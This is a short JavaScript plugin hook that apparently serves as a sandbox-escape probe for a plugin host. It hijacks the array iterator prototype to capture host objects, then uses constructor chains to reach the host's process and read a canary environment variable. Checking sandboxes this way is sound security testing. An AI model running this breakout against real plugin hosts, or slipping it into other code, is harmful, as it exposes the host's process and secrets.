// Whoever spreads or loops calls the iterator of arrays.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const real = Array.prototype[Symbol.iterator];
    const next = Object.getPrototypeOf([][Symbol.iterator]());
    const before = next.next;
    const kept = [];
    Array.prototype[Symbol.iterator] = function () {
      kept[kept.length] = this;
      return Reflect.apply(real, this, []);
    };
    next.next = function () {
      kept[kept.length] = this;
      return Reflect.apply(before, this, []);
    };
    try {
      ctx.log.info('a', [1]);
      await ctx.storage.list('a');
      await ctx.files.read(0, 4);
    } catch (error) {
      kept[kept.length] = error;
    }
    Array.prototype[Symbol.iterator] = real;
    next.next = before;
    for (const each of kept.slice(0, 500)) look(each);
    return { metadata: verdict() };
  },
};
